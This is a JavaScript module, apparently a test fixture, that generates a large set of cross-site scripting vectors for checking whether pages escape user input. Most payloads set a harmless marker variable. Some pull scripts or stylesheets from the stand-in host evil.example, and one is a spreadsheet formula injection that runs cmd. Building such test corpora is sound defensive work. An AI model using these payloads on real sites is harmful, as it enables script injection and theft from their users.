// Texts that would run a script if any page forgot to escape them: each sets window.__pwn, which nothing of ours does.
const run = '__pwn=1'

const elements = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'marquee', 'iframe', 'object data=x', 'style', 'math', 'a href=# autofocus tabindex=0', 'x tabindex=1 id=x']
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter', 'onbegin']
const values = [(js) => `"${js}"`, (js) => `'${js}'`, (js) => js, (js) => `"&#${js.charCodeAt(0)};${js.slice(1)}"`]
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&Tab;script:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', '\u0001javascript:', ' javascript:', 'data:text/html,<script>', 'vbscript:', 'javascript\u200b:', 'feed:javascript:', 'view-source:javascript:', '//evil.example/', '\\\\evil.example/', '/\\evil.example/']
const holders = [
  (url) => `<a href="${url}${run}">a</a>`, (url) => `[a](${url}${run})`, (url) => `![a](${url}${run})`, (url) => `<${url}${run}>`, (url) => `[a]: ${url}${run}`, (url) => `<iframe src="${url}${run}"></iframe>`,
  (url) => `<form action="${url}${run}"><button>a</button></form>`, (url) => `<svg><a href="${url}${run}"><text>a</text></a></svg>`, (url) => `<img src="${url}${run}">`, (url) => `<meta http-equiv=refresh content="0;url=${url}${run}">`, (url) => `<base href="${url}">`,
]
const written = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${run}</script>`, `<<script>${run}//<</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
  `--><script>${run}</script>`, `]]><script>${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `\`><script>${run}</script>`, `</script><script>${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<math><mi><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mi></math>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:${run}></a></svg>#x">`,
  `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="data:text/html,<script>${run}</script>">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example/>`, `<style>@import '//evil.example/x.css';</style>`, `<p style="background:url(//evil.example/x)">a</p>`, `<p style="animation:x" onanimationstart="${run}">a</p>`,
  `<table background=//evil.example/x><tr><td>a</table>`, `<isindex type=image src=1 onerror=${run}>`, `<a href="https://a.example" onclick="${run}">a</a>`, `<a href='https://a.example"onmouseover="${run}'>a</a>`, `[a](https://a.example "onmouseover=${run} x=")`, `[a](https://a.example"onmouseover="${run})`, `![a"onerror="${run}](x)`, `![a](x"onerror="${run})`,
  `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`, `" onmouseover=${run} "`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `<img src="/espaces/0123456789abc/pieces/0123456789abd" onerror=${run}>`, `<img src="/espaces/0123456789abc/pieces/0123456789abd"onerror=${run} alt="">`, `<a href="/personnes/0123456789abc" onclick=${run}></a>`, `<div hx-on:load="${run}">a</div>`, `<div hx-get="//evil.example" hx-trigger=load>a</div>`, `<div data-os-dialog="x" id="os-confirm" data-os-focus>a</div>`, `<form data-os-desk data-tools="//evil.example"><textarea data-os-editor>a</textarea></form>`,
  '```html\n<script>' + run + '</script>\n```', '`<img src=x onerror=' + run + '>`', `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | b |`, `> <svg onload=${run}>`, `- <svg onload=${run}>`, `# <svg onload=${run}>`, `<!--><img src=x onerror=${run}>-->`, `<!--[if gte mso 9]><script>${run}</script><![endif]-->`, `<?xml version="1.0"?><?xml-stylesheet href="javascript:${run}"?>`, `<![CDATA[<script>${run}</script>]]>`,
  `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `\u202e<script>${run}</script>`, `<img/src=x/onerror=${run}>`, `<img\tsrc=x\nonerror=${run}>`, `<img src=x onerror\u000b=${run}>`, `<img src=x onerror=${run}//`, `<svg/onload=${run}//`, `<body onpageshow=${run}>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<portal src=javascript:${run}>`, `<xss contenteditable oninput=${run} autofocus>a</xss>`,
]

/** All of them, each once. */
export const vectors = [...new Set([
  ...written,
  ...elements.flatMap((element) => handlers.map((handler, i) => `<${element} ${handler}=${values[i % values.length](run)}>`)),
  ...elements.flatMap((element, i) => handlers.slice(0, 7).map((handler) => `"><${element.toUpperCase()}/${handler}=${values[(i + 1) % values.length](run)} x="`)),
  ...schemes.flatMap((scheme) => holders.map((holder) => holder(scheme))),
])]

/** The vectors joined into texts of at most `size` characters; a vector that is longer is left out of short fields. */
export function texts(size, between = '\n\n', list = vectors) {
  const out = []
  for (const vector of list) {
    if (vector.length > size) continue
    const last = out.at(-1)
    if (last !== undefined && last.length + between.length + vector.length <= size) out[out.length - 1] = last + between + vector
    else out.push(vector)
  }
  return out
}
